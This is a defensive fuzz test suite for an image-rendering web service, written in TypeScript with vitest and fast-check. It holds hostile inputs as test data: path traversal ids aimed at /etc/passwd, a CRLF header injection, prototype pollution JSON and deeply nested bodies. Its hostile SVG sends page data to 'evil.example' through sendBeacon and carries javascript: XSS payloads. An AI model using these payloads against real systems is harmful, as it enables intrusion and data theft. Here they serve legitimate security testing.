/**
 * Item 5 of the reliability issue: hostile input. Property-based fuzzing (fast-check) of POST
 * bodies, headers, methods, paths and image ids against the real service; deep and huge JSON;
 * a hostile SVG and a hostile error message from upstream. The service runs with a preloaded spy
 * (helpers/fs-spy.mjs) that reports every path it hands to node:fs, so "no file outside
 * CACHE_PATH was touched" is checked, not assumed.
 */
import { realpathSync } from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import path from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ID_PATTERN } from '../src/domain/ids.ts';
import { startSimulator, type Simulator } from 'kentik-simulator';
import { buildService } from './support/build.ts';
import {
  getImage,
  kentikQuery,
  removeDir,
  requestImage,
  startService,
  TEST_TOKEN,
  type Service,
} from './support/index.ts';

const SPY = path.join(import.meta.dirname, 'helpers', 'fs-spy.mjs');
const SVG_CSP = "default-src 'none'; style-src 'unsafe-inline'; sandbox";
/** "Quickly": what a hostile body may cost, on a busy 2-core machine. */
const QUICK_MS = 1500;

let sim: Simulator;
let svc: Service;
let port: number;
let startedAt: number;
let entry: string;
const agent = new http.Agent({ keepAlive: true, maxSockets: 8 });
/** Every answer body and header block the tests received, to scan for the token at the end. */
const answers: string[] = [];

interface Reply {
  status: number;
  headers: http.IncomingHttpHeaders;
  body: Buffer;
  json: any;
  ms: number;
}

/**
 * One request through node:http, any method, path, headers and body. Keep-alive, so thousands of
 * cases run quickly; a reused socket the server had closed meanwhile (it closes after some 4xx)
 * is retried once on a fresh one, as Node's docs advise.
 */
async function send(
  method: string,
  reqPath: string,
  headers: Record<string, string> = {},
  body?: string | Buffer,
): Promise<Reply> {
  try {
    return await sendOnce(method, reqPath, headers, body, agent);
  } catch (err) {
    if (!(err as { reused?: boolean }).reused) throw err;
    return sendOnce(method, reqPath, headers, body, false);
  }
}

function sendOnce(
  method: string,
  reqPath: string,
  headers: Record<string, string>,
  body: string | Buffer | undefined,
  via: http.Agent | false,
): Promise<Reply> {
  const t0 = performance.now();
  // Framed explicitly: Node would send a GET/DELETE/TRACE body unframed, i.e. as a second request.
  const framed =
    body === undefined
      ? headers
      : { ...headers, 'content-length': String(Buffer.byteLength(body)) };
  return new Promise((resolve, reject) => {
    const req = http.request(
      { host: '127.0.0.1', port, method, path: reqPath, headers: framed, agent: via },
      (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('error', reject);
        res.on('end', () => {
          const bodyBytes = Buffer.concat(chunks);
          answers.push(JSON.stringify(res.headers), bodyBytes.toString('latin1'));
          let json: any;
          try {
            json = JSON.parse(bodyBytes.toString('utf8'));
          } catch {
            json = undefined;
          }
          resolve({
            status: res.statusCode ?? 0,
            headers: res.headers,
            body: bodyBytes,
            json,
            ms: performance.now() - t0,
          });
        });
      },
    );
    req.on('error', (err: NodeJS.ErrnoException) => {
      const stale = req.reusedSocket && (err.code === 'ECONNRESET' || err.code === 'EPIPE');
      reject(Object.assign(err, { reused: stale }));
    });
    req.end(body);
  });
}

/**
 * Bytes exactly as given, on a fresh connection; resolves with the status (0: closed without one).
 * Sent in small pieces, each once the last is flushed and what came back was read, and no more once
 * an answer arrives: a server that answers early and closes must not have unread bytes of ours, or
 * its kernel resets the connection and the answer is lost on the way.
 */
function raw(request: Buffer | string): Promise<{ status: number; text: string }> {
  const bytes = Buffer.from(request as string, typeof request === 'string' ? 'latin1' : undefined);
  return new Promise((resolve) => {
    const socket = net.connect(port, '127.0.0.1');
    const chunks: Buffer[] = [];
    let offset = 0;
    const pump = (): void => {
      if (chunks.length > 0 || socket.destroyed) return;
      if (offset >= bytes.length) return void socket.end();
      const piece = bytes.subarray(offset, (offset += 4096));
      socket.write(piece, () => setImmediate(pump));
    };
    socket.on('connect', pump);
    socket.on('data', (c: Buffer) => chunks.push(c));
    socket.on('error', () => {}); // a reset after the answer: the answer is what counts
    socket.on('close', () => {
      const text = Buffer.concat(chunks).toString('latin1');
      answers.push(text);
      resolve({ status: Number(/^HTTP\/1\.1 (\d{3})/.exec(text)?.[1] ?? 0), text });
    });
  });
}

/** Percent-encodes every byte of the UTF-8 form that is not unreserved: any string becomes a path segment. */
const segment = (s: string): string =>
  [...Buffer.from(s, 'utf8')]
    .map((b) =>
      /[A-Za-z0-9_~-]/.test(String.fromCharCode(b))
        ? String.fromCharCode(b)
        : `%${b.toString(16).padStart(2, '0').toUpperCase()}`,
    )
    .join('');

const isErrorBody = (json: any): boolean =>
  typeof json === 'object' &&
  json !== null &&
  typeof json.type === 'string' &&
  Array.isArray(json.loc) &&
  typeof json.msg === 'string';

interface SpyLine {
  t: number;
  fn: string;
  path: string;
}
const spyLines = (from = startedAt, to = Infinity): SpyLine[] =>
  svc.output
    .filter((l) => l.startsWith('KIC_FS_SPY '))
    .map((l) => JSON.parse(l.slice('KIC_FS_SPY '.length)) as SpyLine)
    .filter((s) => s.t >= from && s.t <= to);

/** Where package code really lives (node_modules may be a link). */
const MODULES = realpathSync(path.resolve(import.meta.dirname, '..', 'node_modules'));
const READ_ONLY =
  /^(promises\.)?(readFile|realpath|stat|lstat|access|exists|readdir|opendir)(Sync)?$/;

/**
 * What the service may touch while it runs: CACHE_PATH (plain names only), its own /proc entries
 * (process metrics), and, read-only, package code it loads lazily (undici's HTTP parser on the
 * first upstream call).
 */
function allowed(s: SpyLine): boolean {
  const p = s.path;
  if (p.startsWith('/proc/self/') || p.startsWith(`/proc/${svc.proc.pid}/`)) return true;
  if (
    READ_ONLY.test(s.fn) &&
    [MODULES, path.dirname(entry)].some((dir) => p.startsWith(dir + path.sep))
  )
    return true;
  const rel = path.relative(svc.cachePath, p);
  return (
    rel === '' ||
    (!rel.startsWith('..') &&
      !path.isAbsolute(rel) &&
      /^[A-Za-z0-9._/-]+$/.test(rel) &&
      !rel.split('/').includes('..'))
  );
}

beforeAll(async () => {
  sim = await startSimulator({ email: 'test@example.com', token: TEST_TOKEN });
  entry = await buildService();
  svc = await startService(
    {
      KENTIK_API_URL: sim.url,
      KENTIK_API_RETRIES: '0',
      KENTIK_API_TIMEOUT: '5',
      // The largest body allowed, so hostile JSON reaches the parser and the depth check (the
      // default 64 KiB would refuse most of it with a 413 before; admission.test.ts tests that).
      MAX_QUERY_BYTES: String(1024 * 1024),
    },
    { entry, nodeArgs: ['--import', SPY] },
  );
  port = Number(new URL(svc.url).port);
  startedAt = Date.now();
});
afterAll(async () => {
  agent.destroy();
  expect(await svc.stop()).toBe(0);
  await sim.close();
  removeDir(svc.cachePath);
});

describe('image ids', () => {
  const hex64 = fc.string({
    unit: fc.constantFrom(...'0123456789abcdef'),
    minLength: 64,
    maxLength: 64,
  });
  const hostileId = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 200 }),
    fc.string({ maxLength: 200 }),
    fc.constantFrom(
      '..',
      '.',
      '../..',
      '../../../../etc/passwd',
      '..\\..\\windows\\win.ini',
      '/',
      '//',
      '\\',
      '\0',
      'a\0b',
      '%2e%2e%2f',
      '~',
      '$HOME',
      '${PATH}',
      '*',
      '?',
      '#',
      ' ',
    ),
    fc
      .tuple(
        hex64,
        fc.constantFrom(
          '_',
          '_1',
          '_1.5',
          '_01',
          '_1e3',
          '_-1',
          '_1.',
          '_NaN',
          '_Infinity',
          '_0x10',
          '_١٢٣',
        ),
        fc.constantFrom('', '/..', '/../../x', '\0', '.json', '%00', '/', '\n', ' '),
      )
      .map((p) => p.join('')),
    fc
      .array(
        fc.oneof(
          fc.constantFrom(
            '..',
            '.',
            'entries',
            'blobs',
            'quarantine',
            'etc',
            'passwd',
            '.tmp-x',
            '..%2f',
          ),
          hex64,
        ),
        { minLength: 1, maxLength: 8 },
      )
      .map((p) => p.join('/')),
    fc.string({ minLength: 1000, maxLength: 8000 }),
    // Shaped like an id: valid, but never issued (or long expired).
    fc
      .tuple(
        hex64,
        fc.integer({ min: 0, max: 999_999_999_999 }),
        fc.option(fc.integer({ min: 0, max: 999 })),
      )
      .map(([h, s, ms]) => `${h}_${s}${ms === null ? '' : `.${ms}`}`),
  );

  it(
    'fuzzed ids (percent-encoded, so any string arrives as the id) → 404, saying why',
    { timeout: 60_000 },
    async () => {
      const t0 = Date.now();
      await fc.assert(
        fc.asyncProperty(hostileId, async (id) => {
          const r = await send('GET', `/image/${segment(id)}`);
          expect(r.status).toBe(404);
          expect(isErrorBody(r.json)).toBe(true);
          expect(r.json.type).toBe('Not found');
          if (id === '') return; // "/image/" is no route at all
          expect(r.json.loc).toEqual(['path', 'id']);
          expect(r.json.msg).toContain(
            ID_PATTERN.test(id) ? 'is unknown' : 'is not a valid image id',
          );
        }),
        { numRuns: 1500 },
      );
      // Looking ids up never reads or writes a file: the index in memory answers.
      const touched = spyLines(t0, Date.now()).filter((s) => !allowed(s));
      expect(touched).toEqual([]);
    },
  );

  it(
    'fuzzed raw paths under /image (unencoded .., /, NUL, control bytes, latin-1) → a 4xx, never a 5xx',
    { timeout: 60_000 },
    async () => {
      const rawByte = fc.integer({ min: 0, max: 255 }).map((b) => String.fromCharCode(b));
      const rawId = fc.oneof(
        fc.string({ unit: rawByte, maxLength: 100 }),
        fc.constantFrom(
          '..',
          '../..',
          '../../etc/passwd',
          '..%2f..%2fetc%2fpasswd',
          '%2e%2e/%2e%2e/etc/passwd',
          '%00',
          '%',
          '%zz',
          '%c0%ae%c0%ae/',
          '.%00.',
          '\0',
          'a b',
          '\r\nX-Injected: 1',
        ),
      );
      await fc.assert(
        fc.asyncProperty(rawId, async (id) => {
          const r = await raw(
            Buffer.concat([
              Buffer.from('GET /image/'),
              Buffer.from(id, 'latin1'),
              Buffer.from(' HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n'),
            ]),
          );
          if (r.status !== 0) {
            expect(r.status).toBeGreaterThanOrEqual(400);
            expect(r.status).toBeLessThan(500);
          }
          expect(r.text).not.toContain('X-Injected');
        }),
        { numRuns: 500 },
      );
      // The process is alive and answers normally after all that.
      expect((await send('GET', '/healthz')).status).toBe(200);
    },
  );

  it('ids too long for the request line are refused by the HTTP layer with a 4xx', async () => {
    for (const len of [16 * 1024, 100 * 1024]) {
      const r = await raw(
        `GET /image/${'a'.repeat(len)} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`,
      );
      expect(r.status).toBeGreaterThanOrEqual(400);
      expect(r.status).toBeLessThan(500);
    }
  });
});

describe('POST /requests', () => {
  const injection = fc.constantFrom(
    '1e400', // beyond double range: JSON.parse makes it Infinity, which has no canonical form
    '-1e999',
    '"\\ud800"', // a lone surrogate: valid JSON text, not I-JSON
    '"a\\udc00b"',
    '123456789012345678901234567890',
    '-0',
    '1E-400',
    '"\\u0000"',
    '{"__proto__":{"polluted":1}}',
    '{"constructor":{"prototype":{"polluted":1}}}',
    `${'['.repeat(70)}${']'.repeat(70)}`,
    `"${'x'.repeat(10_000)}"`,
  );
  const body = fc.oneof(
    fc.json(),
    fc.jsonValue({ stringUnit: 'binary' }).map((v) => JSON.stringify({ api_query: v })),
    fc
      .record(
        {
          api_query: fc.oneof(
            fc.object(),
            fc.jsonValue({ stringUnit: 'binary' }),
            fc.constant(kentikQuery('fuzz')),
          ),
          ttl: fc.oneof(
            fc.integer(),
            fc.double(),
            fc.string(),
            fc.boolean(),
            fc.constant(null),
            fc.bigInt().map(String),
          ),
        },
        { requiredKeys: [] },
      )
      .map((v) => JSON.stringify(v)),
    fc
      .tuple(injection, fc.jsonValue())
      .map(([inj, v]) => `{"api_query":{"x":${inj},"y":${JSON.stringify(v)}},"ttl":60}`),
    fc.string({ unit: 'binary', maxLength: 200 }),
    fc.uint8Array({ maxLength: 200 }).map((b) => Buffer.from(b)),
  );
  const printable = fc.string({
    unit: fc.integer({ min: 0x20, max: 0x7e }).map((c) => String.fromCharCode(c)),
    maxLength: 60,
  });
  const contentType = fc.oneof(
    fc.constantFrom(
      'application/json',
      'application/json; charset=utf-8',
      'APPLICATION/JSON',
      'application/json; charset=latin1',
      'application/json; charset=utf-16',
      'application/json;;;',
      'application/json, text/plain',
      'application/vnd.api+json',
      'text/plain',
      'text/json',
      'application/x-www-form-urlencoded',
      'multipart/form-data; boundary=x',
      '',
    ),
    printable,
  );
  const headerName = fc
    .stringMatching(/^[a-z][a-z0-9-]{0,20}$/)
    .filter(
      (h) =>
        ![
          'content-length',
          'transfer-encoding',
          'host',
          'connection',
          'expect',
          'upgrade',
          'content-type',
        ].includes(h),
    );
  const extraHeaders = fc.dictionary(
    fc.oneof(
      headerName,
      fc.constantFrom(
        'content-encoding',
        'accept',
        'accept-encoding',
        'x-forwarded-for',
        'authorization',
        'x-ch-auth-api-token',
        'cookie',
      ),
    ),
    printable,
    { maxKeys: 6 },
  );

  it(
    'fuzzed bodies and headers: never a 5xx; every 4xx is a JSON error, every 200 an id',
    { timeout: 90_000 },
    async () => {
      const seen = new Map<number, number>();
      await fc.assert(
        fc.asyncProperty(body, contentType, extraHeaders, async (b, ct, extra) => {
          const r = await send('POST', '/requests', { ...extra, 'content-type': ct }, b);
          seen.set(r.status, (seen.get(r.status) ?? 0) + 1);
          expect(r.status).toBeGreaterThanOrEqual(200);
          expect(r.status).toBeLessThan(500);
          if (r.status === 200) expect(r.json.id).toMatch(ID_PATTERN);
          else
            expect(isErrorBody(r.json), `${r.status} ${r.body.toString().slice(0, 200)}`).toBe(
              true,
            );
        }),
        { numRuns: 2000 },
      );
      // The fuzz reached both sides: accepted queries and every kind of refusal. Since unknown body
      // keys are refused (400), about 2.5 % of these bodies are valid (~50 of 2,000, varying from
      // run to run): more than 10 proves the accepting side was reached without hanging on chance.
      expect(seen.get(200) ?? 0).toBeGreaterThan(10);
      expect([...seen.keys()]).toEqual(expect.arrayContaining([200, 400, 415]));
    },
  );

  it.each([
    ['a number beyond double range', '{"api_query":{"x":1e400}}'],
    ['a lone surrogate', '{"api_query":{"x":"\\ud800"}}'],
  ])('a query with %s has no canonical form: 400, not 500', async (_name, text) => {
    const r = await send('POST', '/requests', { 'content-type': 'application/json' }, text);
    expect(r.status).toBe(400);
    expect(r.json).toMatchObject({ type: 'Validation error', loc: ['body', 'api_query'] });
  });

  const deep = (n: number, open: string, close: string): string =>
    `{"api_query":{"a":${open.repeat(n)}1${close.repeat(n)}}}`;
  it.each([
    ['objects nested 140,000 deep', deep(140_000, '{"a":', '}'), 400],
    ['arrays nested 500,000 deep', deep(500_000, '[', ']'), 400],
    [
      'api_query itself an array nested 500,000 deep',
      `{"api_query":${'['.repeat(500_000)}${']'.repeat(500_000)}}`,
      400,
    ],
    ['a body just over 1 MiB', `{"api_query":{"pad":"${'x'.repeat(1024 * 1024)}"}}`, 413],
  ])('%s → a 4xx, quickly', async (_name, text, status) => {
    const r = await send('POST', '/requests', { 'content-type': 'application/json' }, text);
    expect(r.status).toBe(status);
    expect(isErrorBody(r.json)).toBe(true);
    expect(r.ms).toBeLessThan(QUICK_MS);
  });

  it.each([
    ['with Content-Length', true],
    ['chunked', false],
  ])('a 64 MiB body %s is refused with 413 before it is read', async (_name, withLength) => {
    const total = 64 * 1024 * 1024;
    const piece = Buffer.alloc(64 * 1024, 0x20);
    const framed = withLength
      ? piece
      : Buffer.concat([
          Buffer.from(`${piece.length.toString(16)}\r\n`),
          piece,
          Buffer.from('\r\n'),
        ]);
    const t0 = performance.now();
    // A raw socket, so the test sees what the server does. A server that answers early closes the
    // connection, and bytes of ours it never read make its kernel reset it, which can destroy the
    // answer before we read it. So: the headers alone first (a declared length is refused at once),
    // then the body in small pieces, each once the last was flushed and anything that came back was
    // read, and no more once the answer is there.
    const status = await new Promise<number>((resolve) => {
      const socket = net.connect(port, '127.0.0.1');
      let answer = '';
      let sent = 0;
      const pump = (): void => {
        if (sent >= total || socket.destroyed || answer !== '') return;
        sent += piece.length;
        socket.write(framed, () => setImmediate(pump));
      };
      socket.on('connect', () => {
        socket.write(
          `POST /requests HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n${withLength ? `Content-Length: ${total}` : 'Transfer-Encoding: chunked'}\r\n\r\n`,
          () => {
            // Only a server that waits for the body gets one.
            if (withLength) setTimeout(pump, 200);
            else pump();
          },
        );
      });
      socket.on('data', (d: Buffer) => {
        answer += d.toString('latin1');
        const m = /^HTTP\/1\.1 (\d{3})/.exec(answer);
        if (m) {
          answers.push(answer);
          socket.destroy();
          resolve(Number(m[1]));
        }
      });
      socket.on('error', () => {}); // a reset once the server stops reading: the answer is what counts
      socket.on('close', () => resolve(Number(/^HTTP\/1\.1 (\d{3})/.exec(answer)?.[1] ?? 0)));
    });
    expect(status).toBe(413);
    expect(performance.now() - t0).toBeLessThan(QUICK_MS);
  });

  it('the service still serves normally after all of it', async () => {
    const id = await requestImage(svc.url, kentikQuery('after-hostile'));
    expect((await getImage(svc.url, id)).status).toBe(200);
  });
});

describe('every route', () => {
  it(
    'fuzzed methods, paths, query strings and headers: never a 5xx',
    { timeout: 60_000 },
    async () => {
      const issued = await requestImage(svc.url, kentikQuery('route-fuzz'));
      await getImage(svc.url, issued);
      const printable = fc.string({
        unit: fc.integer({ min: 0x20, max: 0x7e }).map((c) => String.fromCharCode(c)),
        maxLength: 40,
      });
      const method = fc.constantFrom(
        'GET',
        'HEAD',
        'POST',
        'PUT',
        'DELETE',
        'PATCH',
        'OPTIONS',
        'TRACE',
        'PROPFIND',
        'CONNECT',
      );
      const reqPath = fc.oneof(
        fc.constant(`/image/${issued}`),
        fc.string({ maxLength: 30 }).map((s) => `/image/${segment(s)}`),
        fc.constantFrom(
          '/requests',
          '/healthz',
          '/readyz',
          '/metrics',
          '/favicon.ico',
          '/',
          '//',
          '/image',
          '/image/',
        ),
        printable.map((s) => `/info?limit=${segment(s)}`),
        printable.map((s) => `/info?${segment(s)}=${segment(s)}&limit=1&limit=2`),
        fc.string({ maxLength: 30 }).map((s) => `/${segment(s)}`),
      );
      const headers = fc.record(
        {
          'if-none-match': fc.oneof(printable, fc.constantFrom('*', 'W/"x"', '"a", "b"', ',,,')),
          range: fc.oneof(
            printable,
            fc.constantFrom('bytes=0-0', 'bytes=-1', 'bytes=99999999-', 'bytes=0-1,2-3'),
          ),
          accept: printable,
          'accept-encoding': fc.constantFrom('gzip', 'br', 'deflate', '*', 'identity;q=0', ''),
          'content-type': fc.constantFrom('application/json', 'text/plain', ''),
          'x-forwarded-for': printable,
        },
        { requiredKeys: [] },
      );
      const statuses = new Map<number, number>();
      await fc.assert(
        fc.asyncProperty(method, reqPath, headers, fc.option(fc.json()), async (m, p, h, b) => {
          if (m === 'CONNECT') {
            const r = await raw(`CONNECT ${p} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`);
            expect(r.status).toBeLessThan(500);
            return;
          }
          const r = await send(m, p, h, m === 'GET' || m === 'HEAD' || b === null ? undefined : b);
          statuses.set(r.status, (statuses.get(r.status) ?? 0) + 1);
          expect(
            r.status,
            `${m} ${p} ${JSON.stringify(h)} → ${r.body.toString().slice(0, 200)}`,
          ).toBeLessThan(500);
        }),
        { numRuns: 1000 },
      );
      expect(statuses.get(200) ?? 0).toBeGreaterThan(0);
    },
  );
});

describe('hostile upstream answers', () => {
  const HOSTILE_SVG =
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="40" onload="alert(document.cookie)">' +
    "<script>fetch('/info').then((r) => r.text()).then((t) => navigator.sendBeacon('https://evil.example/', t))</script>" +
    '<foreignObject width="100" height="40"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"></iframe></foreignObject>' +
    '<a xlink:href="javascript:alert(2)"><text y="20">click me</text></a></svg>';

  it('a hostile SVG is served as is, but sandboxed: CSP without script, nosniff, inline', async () => {
    sim.script([{ kind: 'svg-raw', svg: HOSTILE_SVG }]);
    const id = await requestImage(svc.url, kentikQuery('hostile-svg', 'svg'));
    const r = await getImage(svc.url, id);
    expect(r.status).toBe(200);
    expect(r.bytes.toString('utf8')).toBe(HOSTILE_SVG);
    expect(r.headers.get('content-type')).toBe('image/svg+xml');
    expect(r.headers.get('content-security-policy')).toBe(SVG_CSP);
    expect(r.headers.get('x-content-type-options')).toBe('nosniff');
    expect(r.headers.get('content-disposition')).toBe(`inline; filename="${id}.svg"`);
    // The same policy on every way of getting it: HEAD, and from memory after a restart would not matter here.
    const head = await fetch(`${svc.url}/image/${id}`, { method: 'HEAD' });
    expect(head.headers.get('content-security-policy')).toBe(SVG_CSP);
    const again = await getImage(svc.url, id);
    expect(again.headers.get('content-security-policy')).toBe(SVG_CSP);
  });

  it('HTML claiming to be an SVG is never served: 502', async () => {
    sim.script([
      { kind: 'svg-raw', svg: '<html><body><script>alert(document.domain)</script></body></html>' },
    ]);
    const r = await getImage(
      svc.url,
      await requestImage(svc.url, kentikQuery('html-as-svg', 'svg')),
    );
    expect(r.status).toBe(502);
    expect(r.json.type).toBe('Kentik API bad response');
    expect(r.bytes.toString()).not.toContain('<script>');
  });

  it('an upstream error that echoes the token is passed on with the token redacted', async () => {
    sim.script([
      {
        kind: 'status',
        status: 403,
        message: `token ${TEST_TOKEN} is not valid for test@example.com`,
      },
    ]);
    const r = await getImage(svc.url, await requestImage(svc.url, kentikQuery('echo-token')));
    expect(r.status).toBe(403);
    expect(r.json.msg).toContain('token [REDACTED] is not valid');
    answers.push(r.bytes.toString('utf8'));
  });
});

describe('afterwards', () => {
  it('the service touched no file outside CACHE_PATH while it ran', () => {
    const all = spyLines();
    expect(all.length).toBeGreaterThan(0); // the spy works: entries and images were written
    expect(all.filter((s) => !allowed(s))).toEqual([]);
  });

  it('logged no unhandled error, and the token is in no answer and no log line', async () => {
    expect(svc.proc.exitCode).toBeNull();
    expect(
      svc
        .logs()
        .filter((l) => /unhandled/.test(l.msg) || l.level >= 50)
        .map((l) => `${l.msg} ${JSON.stringify(l.err).slice(0, 150)}`),
    ).toEqual([]);
    expect(answers.filter((a) => a.includes(TEST_TOKEN))).toEqual([]);
    expect(svc.output.filter((l) => l.includes(TEST_TOKEN))).toEqual([]);
  });
});
